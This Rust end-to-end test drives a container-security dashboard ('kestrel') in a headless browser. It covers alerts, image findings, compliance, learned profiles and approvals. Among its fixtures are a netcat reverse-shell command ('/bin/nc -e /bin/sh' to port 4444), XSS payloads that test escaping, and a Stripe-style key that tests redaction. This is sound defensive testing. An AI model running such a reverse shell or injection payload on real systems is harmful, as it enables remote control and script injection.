//! The dashboard end to end, as a security team uses it: the real `kestrel server`, filled by the real CLI (an
//! image scan against the fixture vulnerability database and a compliance run, both with `--server`; an agent's
//! alerts from `kestrel detect --server`; a profile from `kestrel learn`), then read and acted on in headless
//! Chromium driven over WebDriver — login, overview, alerts with their explanation and evidence, image
//! findings with fix versions, compliance drill-down, a workload's learned behaviour, approvals — with a
//! screenshot of every page (in the target's tmp directory: `dashboard-*.png`).

use assert_cmd::cargo::CommandCargoExt;
use kestrel_testkit::browser::Browser;
use kestrel_testkit::services::free_port;
use kestrel_testkit::{Entry, Image};
use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

struct Server {
    child: Child,
    base: String,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A Stripe live key in the CI image (assembled, so that this file holds none).
const STRIPE: &str = concat!("sk_live_", "4eC39HqLyjWDarjtT1zdp7dc");

fn kestrel() -> Command {
    let mut c = Command::cargo_bin("kestrel").unwrap();
    c.env_remove("KESTREL_SERVER_TOKEN").env_remove("KESTREL_TOKEN").env_remove("KESTREL_SERVER");
    c
}

fn run(c: &mut Command) -> String {
    let out = c.output().unwrap();
    assert!(out.status.success(), "{:?}: {}", c, String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).to_string()
}

/// A token file with one token per (role, name); returns the file and the tokens in order.
fn tokens(dir: &Path, who: &[(&str, &str)]) -> (PathBuf, Vec<String>) {
    let mut file = String::from("tokens:\n");
    let mut tokens = Vec::new();
    for (role, name) in who {
        let out = kestrel().args(["server", "token", "--role", role, "--name", name]).output().unwrap();
        tokens.push(String::from_utf8(out.stdout).unwrap().trim().to_string());
        let stderr = String::from_utf8(out.stderr).unwrap();
        file.extend(stderr.lines().filter(|l| l.starts_with("- ") || l.starts_with("  ")).map(|l| format!("{l}\n")));
    }
    let p = dir.join("tokens.yaml");
    std::fs::write(&p, file).unwrap();
    (p, tokens)
}

fn start(data: &Path, tokens: &Path, more: &[String]) -> Server {
    let port = free_port();
    let child = kestrel()
        .args(["server", "--listen", &format!("127.0.0.1:{port}"), "--data-dir"])
        .arg(data)
        .arg("--tokens")
        .arg(tokens)
        .args(more)
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let t = Instant::now();
    while ureq::get(format!("{base}/healthz")).call().is_err() {
        assert!(t.elapsed() < Duration::from_secs(20), "the server did not come up");
        std::thread::sleep(Duration::from_millis(50));
    }
    Server { child, base }
}

fn api(base: &str, token: &str, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
    let agent: ureq::Agent = ureq::Agent::config_builder().http_status_as_error(false).build().into();
    let url = format!("{base}{path}");
    let mut resp = match body {
        Some(b) => agent.post(&url).header("Authorization", format!("Bearer {token}")).send_json(b).unwrap(),
        None if method == "GET" => agent.get(&url).header("Authorization", format!("Bearer {token}")).call().unwrap(),
        None => unreachable!(),
    };
    let status = resp.status().as_u16();
    let text = resp.body_mut().read_to_string().unwrap_or_default();
    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
}

/// The fixture vulnerability database (as the vulnerability tests build it).
fn vuln_db(dir: &Path) -> PathBuf {
    let f = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../kestrel-vulndb/tests/fixtures/db");
    let db = dir.join("db");
    run(kestrel()
        .env("KESTREL_DB_DIR", &db)
        .args(["db", "import"])
        .args(["osv-PyPI.zip", "DSA.list", "DLA.list", "kev.json"].map(|n| f.join(n))));
    db
}

fn event(t: u64, container: &str, pid: u32, comm: &str, kind: Value) -> String {
    let mut e = json!({"schema": "kestrel.event/v1", "time_ns": t, "pid": pid, "tid": pid, "comm": comm,
        "cgroup_id": 1, "container": {"id": container, "runtime": "runc", "image": "shop/web:1.2"}});
    e.as_object_mut().unwrap().extend(kind.as_object().unwrap().clone());
    e.to_string()
}

/// What a web container normally does, in two containers: nginx starts, reads its configuration, talks to
/// its database.
fn normal_recording(dir: &Path) -> PathBuf {
    let mut lines = vec![json!({"schema": "kestrel.trace/v1", "started_ns": 1_000_000_000u64}).to_string()];
    for (i, c) in ["web-1", "web-2"].iter().enumerate() {
        let t = 2_000_000_000 + i as u64 * 1_000;
        lines.push(event(
            t,
            c,
            10,
            "nginx",
            json!({"kind": "exec", "ppid": 1, "parent_comm": "runc:[2:INIT]", "uid": 0, "gid": 0,
            "euid": 0, "exe": "/usr/sbin/nginx", "argv": ["nginx", "-g", "daemon off;"], "cap_effective": 0}),
        ));
        lines.push(event(t + 1, c, 10, "nginx", json!({"kind": "open", "path": "/etc/nginx/nginx.conf", "flags": 0})));
        lines.push(event(
            t + 2,
            c,
            11,
            "nginx",
            json!({"kind": "connect", "to": {"family": "inet", "addr": "10.0.0.5", "port": 5432}}),
        ));
    }
    let p = dir.join("normal.jsonl");
    std::fs::write(&p, lines.join("\n") + "\n").unwrap();
    p
}

/// A reverse shell through nc in web-1 (what the built-in rules catch).
fn attack_recording(dir: &Path) -> PathBuf {
    let mut lines = vec![json!({"schema": "kestrel.trace/v1", "started_ns": 1_000_000_000u64}).to_string()];
    lines.push(event(3_000_000_000, "web-1", 200, "nc", json!({"kind": "exec", "ppid": 10, "parent_comm": "sh", "uid": 0,
        "gid": 0, "euid": 0, "exe": "/bin/nc", "argv": ["/bin/nc", "-e", "/bin/sh", "10.0.0.9", "4444"], "cap_effective": 0})));
    let p = dir.join("attack.jsonl");
    std::fs::write(&p, lines.join("\n") + "\n").unwrap();
    p
}

fn pending(id: &str, title: &str, written: u64) -> Value {
    json!({"schema": "kestrel.response/v1", "id": id, "alert_time_ns": written - 5, "written_ns": written,
        "alert_id": id.split('/').next().unwrap(), "alert_title": title, "severity": "critical", "workload": "shop/web:1.2",
        "container": "web-1", "cgroup_id": 1, "pid": 200, "rule": "isolate-critical", "action": "isolate",
        "outcome": "pending-approval", "detail": "waits for a person (approval: true)"})
}

#[test]
fn the_dashboard_in_a_real_browser() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (token_file, t) = tokens(d, &[("admin", "alice"), ("viewer", "vera"), ("agent", "node-1"), ("ci", "gitlab")]);
    let (admin, viewer, agent, ci) = (&t[0], &t[1], &t[2], &t[3]);
    // A chat webhook that fails every post (HTTP 500): the overview says so.
    let chat = kestrel_testkit::services::Webhook::start(vec![500; 1000], Duration::ZERO);
    let notify = ["--notify".into(), format!("chat:http://{}/hooks/s3cret", chat.addr)];
    let served = ["--db-dir".into(), d.join("db").to_string_lossy().into_owned()];
    let server = start(&d.join("data"), &token_file, &[&notify[..], &served[..]].concat());
    let base = server.base.as_str();

    // CI: an image with vulnerable packages, scanned with the fixture database; a compliance run.
    let db = vuln_db(d);
    let img = d.join("web.tar");
    Image::new(vec![vec![
        Entry::File("etc/os-release".into(), b"ID=debian\nVERSION_ID=\"11\"\n".to_vec()),
        Entry::File(
            "var/lib/dpkg/status".into(),
            b"Package: apache2-bin\nStatus: install ok installed\nArchitecture: amd64\nSource: apache2\nVersion: 2.4.54-1~deb11u1\n\n".to_vec(),
        ),
        Entry::File(
            "usr/lib/python3/dist-packages/requests-2.19.0.dist-info/METADATA".into(),
            b"Metadata-Version: 2.1\nName: requests\nVersion: 2.19.0\n".to_vec(),
        ),
        Entry::File("srv/web/.env".into(), format!("STRIPE_KEY={STRIPE}\n").into_bytes()),
    ]])
    .write_docker_archive(&img, &["shop/web:1.2"]);
    run(kestrel()
        .env("KESTREL_DB_DIR", &db)
        .env("KESTREL_CACHE_DIR", d.join("cache"))
        .args(["image", "--input"])
        .arg(&img)
        .args(["-f", "json", "-o", "/dev/null", "--server", base, "--server-token", ci]));
    std::fs::create_dir_all(d.join("k8s")).unwrap();
    std::fs::write(
        d.join("k8s/web.yaml"),
        "apiVersion: v1\nkind: Pod\nmetadata: {name: web, namespace: shop}\nspec:\n  hostPID: true\n  containers:\n  - name: web\n    image: shop/web:1.2\n    securityContext: {privileged: true}\n",
    )
    .unwrap();
    let _ = kestrel()
        .args(["compliance", "--spec", "cis-k8s-1.9", "-o", "/dev/null", "--server", base, "--server-token", ci])
        .arg(d.join("k8s"))
        .output()
        .unwrap();
    assert_eq!(api(base, ci, "GET", "/api/v1/reports?kind=compliance", None).1["items"].as_array().unwrap().len(), 1);

    // The agent on node-1: a learned profile, alerts from detect, two actions waiting for approval, and one
    // alert whose title is markup (from an attacker's process name, say).
    let profiles = d.join("profiles");
    run(kestrel()
        .args(["learn", "-q", "-k", "2", "--workload", "shop/web:1.2", "--mode", "monitor", "--profiles"])
        .arg(&profiles)
        .arg(normal_recording(d)));
    // The current profile (beside it, the same one under its version: NAME.v1.json).
    let current =
        std::fs::read_dir(&profiles).unwrap().flatten().find(|e| !e.file_name().to_string_lossy().contains(".v"));
    let profile: Value = serde_json::from_slice(&std::fs::read(current.unwrap().path()).unwrap()).unwrap();
    let (status, _) = api(
        base,
        agent,
        "POST",
        "/api/v1/profiles",
        Some(
            json!({"node": "node-1", "workload": profile["workload"], "version": profile["version"], "profile": profile}),
        ),
    );
    assert_eq!(status, 200);
    let out = kestrel()
        .args(["detect", "-q", "-f", "json", "--no-profiles", "--server", base, "--server-token", agent])
        .args(["--node", "node-1", "--spool"])
        .arg(d.join("spool"))
        .arg(attack_recording(d))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let detected: Vec<Value> =
        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(!detected.is_empty(), "the reverse shell raised alerts");
    let mut hostile = detected[0].clone();
    hostile["id"] = json!("hostile-1");
    hostile["title"] = json!("<img src=x onerror=\"window.pwned=1\"> shell");
    hostile["explanation"] = json!(["<script>window.pwned=2</script>"]);
    assert_eq!(api(base, agent, "POST", "/api/v1/alerts", Some(json!({"node": "node-1", "alerts": [hostile]}))).0, 200);
    let first = &detected[0];
    let decisions = json!({"node": "node-1", "decisions": [
        pending(&format!("{}/isolate", first["id"].as_str().unwrap()), first["title"].as_str().unwrap(), 4_000_000_000),
        pending("hostile-1/isolate", "shell", 4_000_000_100),
    ]});
    assert_eq!(api(base, agent, "POST", "/api/v1/decisions", Some(decisions)).0, 200);
    // Its heartbeat: the images its containers run, one known by name, one by its digest.
    let beat = json!({"node": "node-1", "status": {"images": ["dev/web:local", "shop/web:1.2"], "image_refs": [
        {"image": "dev/web:local", "digest": format!("sha256:{}", "4".repeat(64))}, {"image": "shop/web:1.2", "digest": null}]}});
    assert_eq!(api(base, agent, "POST", "/api/v1/nodes/heartbeat", Some(beat)).0, 200);

    let shots = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    let b = Browser::start(&shots, 1400, 1000);

    // Login: an unknown token is refused on the page; the viewer's token gets in.
    b.goto(base);
    b.wait_until("return document.getElementById('main').dataset.view === 'login'", 20);
    b.type_into("#token", "kst_not-a-token");
    b.click("#login button[type=submit]");
    b.wait_until("return document.getElementById('login-error').textContent.includes('not known')", 10);
    b.js("document.getElementById('token').value = ''; return true");
    b.then_view("overview", |b| {
        b.type_into("#token", viewer);
        b.click("#login button[type=submit]");
    });
    assert_eq!(b.text("#who"), "vera (viewer)");

    // Overview: the same counts as the API, the node, the workload and its mode, the latest alerts.
    let summary = api(base, viewer, "GET", "/api/v1/summary", None).1;
    for sev in ["critical", "high", "medium", "low"] {
        let shown = b.text(&format!("#count-{sev} b")).replace(',', "");
        assert_eq!(shown, summary["alerts"][sev].as_i64().unwrap_or(0).to_string(), "{sev}");
    }
    assert_eq!(b.text("#count-pending b"), "2");
    assert_eq!(b.text("#count-reports b"), "2");
    // The database the server serves (the CI scan's, built minutes ago), its digest on hover.
    assert_eq!(b.text("#vulndb b"), "today");
    let title = b.js("return document.getElementById('vulndb').title");
    assert!(title.as_str().unwrap().contains(summary["vulndb"]["sha256"].as_str().unwrap()), "{title}");
    // Each column of the nodes' table under its own heading.
    let headings = b.texts("table:has(tr.node) th");
    let images = b.js(
        "return [...document.querySelector('tr.node').children].findIndex((td) => td.classList.contains('images'))",
    );
    assert_eq!(headings[images.as_u64().unwrap() as usize], "Images", "{headings:?}");
    assert!(b.texts("tr.node td:first-child").contains(&"node-1".to_string()));
    // The node's images: how many, each named on hover (with its digest where the node knows one).
    assert_eq!(b.text("tr.node td.images"), "2");
    let title = b.js("return document.querySelector('tr.node td.images').title");
    assert!(
        title.as_str().is_some_and(|t| t.contains("shop/web:1.2") && t.contains("dev/web:local (sha256:4444")),
        "{title}"
    );
    let workload = b.texts("tr.workload td");
    assert!(
        workload.contains(&"shop/web:1.2".to_string()) && workload.contains(&"monitor".to_string()),
        "{workload:?}"
    );
    assert_eq!(b.count("tr.alert"), detected.len() + 1);
    // The failing chat webhook: where it goes (its secret path left out), what waits for it to come back and why.
    let mut notes = Value::Null;
    let t = Instant::now();
    while notes["targets"][0]["waiting"].as_u64().unwrap_or(0) == 0 {
        assert!(t.elapsed() < Duration::from_secs(20), "no notification waiting: {notes}");
        std::thread::sleep(Duration::from_millis(100));
        notes = api(base, viewer, "GET", "/api/v1/notifications", None).1;
    }
    b.then_view("overview", |b| {
        b.js("route(); return true");
    });
    let row = b.texts("tr.notification td");
    assert_eq!(row[0], format!("http://{}", chat.addr), "{row:?}");
    assert_eq!(row[1..3], ["chat", "high"], "{row:?}");
    assert_eq!(row[4], "0", "tried again for an hour before it counts as failed: {row:?}");
    assert_eq!(row[5], notes["targets"][0]["waiting"].as_u64().unwrap().to_string(), "{row:?}");
    assert!(row[8].contains("HTTP 500") && !row.concat().contains("s3cret"), "{row:?}");
    b.screenshot("dashboard-overview");

    // Alerts: every stored one listed; one opened shows why, with its evidence. The hostile one is text.
    b.then_view("alerts", |b| b.click("header a[data-view=alerts]"));
    assert_eq!(b.count("tr.alert"), detected.len() + 1);
    b.then_view("alerts", |b| {
        b.js("const s = document.getElementById('min-severity'); s.value = 'critical'; s.dispatchEvent(new Event('change')); return true");
    });
    let critical = detected.iter().filter(|a| a["severity"] == "critical").count();
    assert_eq!(b.count("tr.alert"), critical + usize::from(first["severity"] == "critical"));
    b.then_view("alert", |b| b.goto(&format!("{base}/#/alert/node-1/{}", first["id"].as_str().unwrap())));
    assert!(b.text("h1").contains(first["title"].as_str().unwrap()));
    assert_eq!(b.count("#explanation li"), first["explanation"].as_array().unwrap().len());
    assert!(b.count("tr.evidence") >= 1 && b.texts("tr.evidence td").iter().any(|t| t.contains("/bin/nc -e /bin/sh")));
    // Each evidence event in kestrel's own words (the server's `describe`): the exec with its user and parent.
    let said = b.texts("tr.evidence td");
    assert!(said.iter().any(|t| t.starts_with("exec `/bin/nc -e /bin/sh 10.0.0.9 4444` (uid 0")), "{said:?}");
    b.screenshot("dashboard-alert");
    b.then_view("alert", |b| b.goto(&format!("{base}/#/alert/node-1/hostile-1")));
    assert!(b.text("h1").contains("<img src=x"), "markup is shown as text");
    assert_eq!(
        b.js("return document.querySelectorAll('main img, main script').length + (window.pwned || 0)"),
        json!(0)
    );

    // Images: the scan's findings with the versions that fix them, and the nodes running the image.
    b.then_view("images", |b| b.click("header a[data-view=images]"));
    assert_eq!(b.texts("tr.report td:first-child"), ["shop/web:1.2"]);
    b.then_view("report", |b| b.click("tr.report a"));
    assert_eq!(b.text("#running"), "node-1");
    let rows = b.texts("tr.finding");
    assert!(rows.iter().any(|r| r.contains("CVE-2023-25690") && r.contains("apache2-bin")), "{rows:?}");
    assert!(b.count("tr.finding td.fix") >= 1, "fix versions shown");
    let all = b.count("tr.finding");
    b.then_view("report", |b| b.click("#fixable"));
    assert_eq!(b.count("tr.finding"), b.count("tr.finding td.fix"));
    assert!(b.count("tr.finding") <= all);
    // The image's hardcoded secret, redacted: the page never holds the value.
    let secrets = b.texts("tr.secret");
    assert!(secrets.len() == 1 && secrets[0].contains("/srv/web/.env:1"), "{secrets:?}");
    assert!(!b.texts("main").concat().contains(STRIPE), "the secret reached the page");
    b.screenshot("dashboard-image");

    // Compliance: the spec's posture, and a failing control drilled into down to the file and line.
    b.then_view("compliance", |b| b.click("header a[data-view=compliance]"));
    assert!(b.text("tr.spec").contains("CIS"), "{}", b.text("tr.spec"));
    b.then_view("report", |b| b.click("tr.spec a"));
    assert!(
        b.count("details.control.fail") >= 2,
        "privileged and hostPID fail: {:?}",
        b.js("return document.body.innerText.slice(0, 1500)")
    );
    b.js("for (const d of document.querySelectorAll('details.control.fail')) d.open = true; return true");
    assert!(b.texts("tr.control-finding").iter().any(|r| r.contains("web.yaml")), "findings name the file");
    b.screenshot("dashboard-compliance");

    // Workloads: what the web workload normally does.
    b.then_view("workloads", |b| b.click("header a[data-view=workloads]"));
    b.then_view("workload", |b| b.click("tr.workload a"));
    let learned = b.texts("tr.behaviour td:first-child");
    assert!(learned.iter().any(|k| k.contains("nginx")), "{learned:?}");
    assert!(learned.iter().any(|k| k.contains("5432")), "{learned:?}");
    b.screenshot("dashboard-workload");

    // Approvals: a viewer sees them but may not decide; an admin approves one and denies the other.
    b.then_view("approvals", |b| b.click("header a[data-view=approvals]"));
    assert_eq!(b.count("tr.approval"), 2);
    assert_eq!(b.js("return [...document.querySelectorAll('button.approve')].every(b => b.disabled)"), json!(true));
    b.then_view("login", |b| b.click("#logout"));
    // Logging in again brings one back to the page one was on.
    b.then_view("approvals", |b| {
        b.type_into("#token", admin);
        b.click("#login button[type=submit]");
    });
    let first_decision = format!("{}/isolate", first["id"].as_str().unwrap());
    b.click(&format!("tr.approval[data-id='{first_decision}'] button.approve"));
    b.wait_until(&format!("return document.querySelector(\"tr.approval[data-id='{first_decision}'] td.verdict\").textContent.includes('approved by alice')"), 10);
    b.click("tr.approval[data-id='hostile-1/isolate'] button.deny");
    b.wait_until("return document.querySelector(\"tr.approval[data-id='hostile-1/isolate'] td.verdict\").textContent.includes('denied by alice')", 10);
    b.screenshot("dashboard-approvals");
    // The node fetches both verdicts.
    let verdicts = api(base, agent, "GET", "/api/v1/verdicts?node=node-1", None).1;
    let mut got: Vec<(String, String)> = verdicts["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| (v["id"].as_str().unwrap().to_string(), v["verdict"].as_str().unwrap().to_string()))
        .collect();
    got.sort();
    let mut want = vec![(first_decision, "approve".to_string()), ("hostile-1/isolate".to_string(), "deny".to_string())];
    want.sort();
    assert_eq!(got, want);

    // Every screenshot is a real picture.
    for name in ["overview", "alert", "image", "compliance", "workload", "approvals"] {
        let png = std::fs::read(shots.join(format!("dashboard-{name}.png"))).unwrap();
        assert_eq!(&png[1..4], b"PNG");
        assert!(png.len() > 10_000, "{name}: a blank page? {} bytes", png.len());
    }
}
